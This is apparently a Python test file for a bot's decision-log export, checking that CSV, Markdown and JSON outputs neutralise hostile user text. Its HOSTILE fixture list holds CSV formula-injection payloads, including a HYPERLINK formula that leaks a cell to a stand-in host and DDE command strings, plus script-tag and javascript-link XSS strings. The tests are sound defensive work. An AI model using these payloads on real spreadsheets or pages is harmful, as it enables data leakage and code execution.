"""Hostile texts in the decision log: CSV cells never start a formula, Markdown never
renders a proposal's HTML or links, JSON stays valid data."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from bot.domain.circle import Rules
from bot.domain.model import Proposal, Stance
from bot.domain.tally import tally
from bot.domain.text_safety import clean_text
from bot.queries.export import Decision, csv_cell, md_inline, to_csv, to_json, to_markdown

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # some spreadsheets trim leading spaces before they look for a formula
    "\u200b=1+1",  # an invisible character in front hides nothing
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "# Heading\n## another\n---\n===",
    "a | b\n| --- | --- |\n| c | d |",
    "`code` and ```fence```",
    "&lt;script&gt; typed as entities",
    "1. not a list\n- nor this\n+ nor this",
    "> not a quote",
    "back\\slash\\",
]

AT = datetime(2026, 1, 5, 10, tzinfo=UTC)


def decision(
    text: str, name: str = "ana", side: str = "milpa", circle: str = "council"
) -> Decision:
    leaders = {side: [name], "vera": ["cy"]}
    stances = {name: Stance.OBJECT, "cy": Stance.CONCERN}
    proposal = Proposal(
        id=1,
        circle_id=1,
        author=name,
        text=text,
        status="blocked",
        round=1,
        created_at=AT,
        deadline=AT,
        review="6mo",
        review_at=None,
        decided_at=AT,
        cosponsor=name,
        review_of=None,
        reviewed=False,
    )
    history: list[dict[str, Any]] = [
        {
            "id": 1,
            "at": AT,
            "kind": "amend",
            "round": 1,
            "actor": name,
            "member": name,
            "mark": None,
            "emoji": None,
            "added": None,
            "counted": None,
            "note": text,
            "detail": {"previous": text},
            "platform": "test",
            "event_id": "e1",
            "proposal_id": 1,
        }
    ]
    return Decision(
        proposal=proposal,
        circle=circle,
        timezone="UTC",
        leaders=leaders,
        stances=stances,
        result=tally(Rules(), leaders, stances),
        history=history,
    )


def csv_cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [cell for row in rows[1:] for cell in row]


# --------------------------------------------------------------------------- CSV


def test_csv_cells_that_could_start_a_formula_are_prefixed_with_a_quote() -> None:
    for text in HOSTILE:
        found = decision(text, name="=cmd", side="+side", circle="@circle")
        rows = list(csv.reader(io.StringIO(to_csv([found]), newline="")))
        record = dict(zip(rows[0], rows[1], strict=True))
        for cell in rows[1]:
            assert not cell.startswith(FORMULA_START), (text, cell)
            assert not cell.lstrip().startswith(FORMULA_START), (text, cell)
        assert record["author"] == "'=cmd"
        assert record["circle"] == "'@circle"
        assert record["objectors"] == "'=cmd"
        assert record["tally"].startswith("'+side")
        if text.lstrip().startswith(FORMULA_START) or text.startswith(("\t", "\r")):
            assert record["text"].startswith("'")


def test_csv_keeps_harmless_text_as_it_is() -> None:
    rows = list(csv.reader(io.StringIO(to_csv([decision("Adopt it, = yes")]), newline="")))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["text"] == "Adopt it, = yes"
    assert record["author"] == "ana"


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60), st.text(max_size=20))
def test_no_csv_cell_ever_starts_a_formula(text: str, name: str) -> None:
    out = to_csv([decision(text, name=name or "x")])
    out.encode("utf-8")  # writable, even with lone surrogates in the database
    for cell in csv_cells(out):
        assert not cell.startswith(FORMULA_START)
        assert not cell.lstrip().startswith(FORMULA_START)


@settings(max_examples=300)
@given(st.text(max_size=60))
def test_csv_cell_is_the_clean_text_with_at_most_a_leading_quote(text: str) -> None:
    cell = csv_cell(text)
    assert cell in (clean_text(text), "'" + clean_text(text))
    assert csv_cell(7) == 7


# --------------------------------------------------------------------------- Markdown

# Characters that must never reach a Markdown renderer unescaped from a person's text.
_ACTIVE = re.compile(r"(?<!\\)(?:\\\\)*[\[\]`<>|]")


def test_markdown_never_renders_html_or_links_from_a_proposal() -> None:
    for text in HOSTILE:
        out = to_markdown([decision(text, name="<b>x</b>", side="[s](javascript:1)")], ["council"])
        assert "<img" not in out and "<script" not in out and "<b>" not in out, text
        assert "](javascript" not in out and "](" not in out.replace("\\](", ""), text
        assert "<javascript" not in out
        assert "&lt;script&gt;" in to_markdown([decision("<script>")], ["council"])


def test_markdown_quote_lines_start_with_no_block_syntax() -> None:
    out = to_markdown([decision("# Heading\n- item\n1. first\n===\n    code")], ["council"])
    quoted = [line for line in out.splitlines() if line.startswith(">")]
    assert quoted == ["> \\# Heading", "> \\- item", "> 1\\. first", "> \\===", "> code"]


def test_markdown_table_cells_stay_in_their_cell() -> None:
    out = to_markdown([decision("x", side="a|b\nc")], ["council"])
    row = next(line for line in out.splitlines() if line.startswith("| a"))
    assert row.startswith("| a\\|b c | 1 |")


def test_markdown_entities_typed_by_people_show_as_typed() -> None:
    out = to_markdown([decision("&lt;b&gt; & co")], ["council"])
    assert "> &amp;lt;b&amp;gt; &amp; co" in out


@settings(max_examples=300)
@given(st.text(max_size=80))
def test_md_inline_leaves_nothing_active(text: str) -> None:
    escaped = md_inline(text)
    assert "\n" not in escaped and "\r" not in escaped
    assert not _ACTIVE.search(escaped), escaped
    assert "&" not in escaped.replace("&amp;", "").replace("&lt;", "").replace("&gt;", "")


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80))
def test_markdown_of_any_text_has_no_unescaped_html_or_links(text: str) -> None:
    out = to_markdown([decision(text)], ["council"])
    quoted = "\n".join(line for line in out.splitlines() if line.startswith(">"))
    assert not _ACTIVE.search(quoted.replace("\n>", "\n")[1:]), quoted


# --------------------------------------------------------------------------- JSON


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60))
def test_json_is_valid_utf8_json_for_any_text_and_keeps_it(text: str) -> None:
    out = to_json([decision(text)])
    out.encode("utf-8")  # lone surrogates must not make the file unwritable
    [data] = json.loads(out)["decisions"]
    assert data["text"] == text
    assert data["history"][0]["detail"]["previous"] == text
